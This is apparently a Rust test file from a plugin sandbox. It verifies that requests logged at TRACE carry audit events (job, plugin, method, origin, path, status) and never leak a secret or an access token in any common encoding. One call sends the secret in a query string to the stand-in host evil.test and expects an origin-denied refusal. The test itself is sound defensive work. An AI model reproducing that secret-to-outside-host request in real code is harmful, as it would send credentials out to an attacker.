//! What a request leaves in logs at TRACE: one audit event, and no secret.

use crate::capability::testing::{Fixture, Logs, Server, get, text};
use crate::capability::{Body, Level, Request, Value};

const SECRET: &str = "hunter2+&\"secret";
const TOKEN: &str = "at-0123456789abcdef";

/// All encodings in which the secret or the token might have been logged.
fn spellings() -> Vec<String> {
    use crate::capability::Encoding;
    let mut found = Vec::new();
    for value in [SECRET, TOKEN] {
        for encoding in [
            Encoding::Raw,
            Encoding::Form,
            Encoding::Percent,
            Encoding::Json,
            Encoding::Base64Url,
            Encoding::Hex,
        ] {
            let spelled = encoding.encode(value.as_bytes()).unwrap();
            found.push(String::from_utf8(spelled.to_vec()).unwrap());
        }
    }
    found
}

#[tokio::test]
async fn nothing_at_trace_shows_a_secret_or_an_answers_token() {
    let body = format!("{{\"access_token\":\"{TOKEN}\"}}");
    let answer = format!(
        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    let server = Server::answering(answer).await;
    let closing = Server::answering("").await;
    let mut fixture = Fixture::reaching(&server);
    fixture.endpoints.push(closing.origin());
    fixture.secret("key", SECRET);
    let call = fixture.call();
    let logs = Logs::default();
    let failures = logs
        .during(async {
            let secret = call.open("key").await.unwrap();
            let request = |server: &Server| Request {
                method: "POST".to_owned(),
                query: vec![("key".to_owned(), Value::Secret(secret.clone()))],
                headers: vec![
                    ("X-Key".to_owned(), Value::Secret(secret.clone())),
                    ("Authorization".to_owned(), text(SECRET)),
                ],
                body: Body::Form(vec![("key".to_owned(), Value::Secret(secret.clone()))]),
                ..get(server.url("/token"))
            };
            let response = call.send(request(&server)).await.unwrap();
            call.log(
                Level::Warn,
                &format!(
                    "no {SECRET}, got {}",
                    String::from_utf8_lossy(&response.body)
                ),
            );
            let lost = call.send(request(&closing)).await.unwrap_err();
            let named = call.open(SECRET).await.unwrap_err();
            // The plugin's own text is unchanged; what it returns is scrubbed.
            let named = call.scrub_failure(named);
            let refused = call
                .send(get(format!("http://evil.test/?{SECRET}")))
                .await
                .unwrap_err();
            // A plugin that may read a secret may put it where handles are not accepted.
            call.send(get(server.url(&format!("/bot{SECRET}/me"))))
                .await
                .unwrap();
            let shown = format!("{secret:?} {response:?} {:?} {call:?}", request(&server));
            format!("{lost:?} {named:?} {refused:?} {shown}")
        })
        .await;
    let logged = logs.text();
    for spelling in spellings() {
        assert!(!logged.contains(&spelling), "{spelling} in {logged}");
        assert!(!failures.contains(&spelling), "{spelling} in {failures}");
    }
    assert!(
        logged.contains("TRACE") || logged.contains("DEBUG"),
        "{logged}"
    );
    let audits: Vec<_> = logged
        .lines()
        .filter(|line| line.contains("evertoken::audit"))
        .collect();
    assert_eq!(audits.len(), 4, "{logged}");
    for part in [
        "job=warehouse",
        "plugin=oauth2",
        "method=\"POST\"",
        &format!("origin=\"{}\"", server.origin()),
        "path=\"/token\"",
        "status=200",
        &format!("bytes={}", body.len()),
        "duration_ms=",
    ] {
        assert!(audits[0].contains(part), "{part} in {}", audits[0]);
    }
    assert!(
        audits[1].contains("code=\"http.protocol\""),
        "{}",
        audits[1]
    );
    assert!(
        audits[2].contains("code=\"http.origin-denied\""),
        "{}",
        audits[2]
    );
    assert!(
        audits[3].contains("path=\"/bot[redacted]/me\""),
        "{}",
        audits[3]
    );
}
